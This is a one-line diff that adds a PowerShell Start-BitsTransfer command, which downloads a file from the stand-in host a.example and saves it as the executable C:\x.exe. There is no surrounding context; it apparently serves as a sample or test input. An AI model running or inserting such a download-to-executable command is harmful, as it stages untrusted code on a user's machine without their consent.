@@ -1,0 +1,1 @@
+Start-BitsTransfer -Source http://a.example/x -Destination C:\x.exe
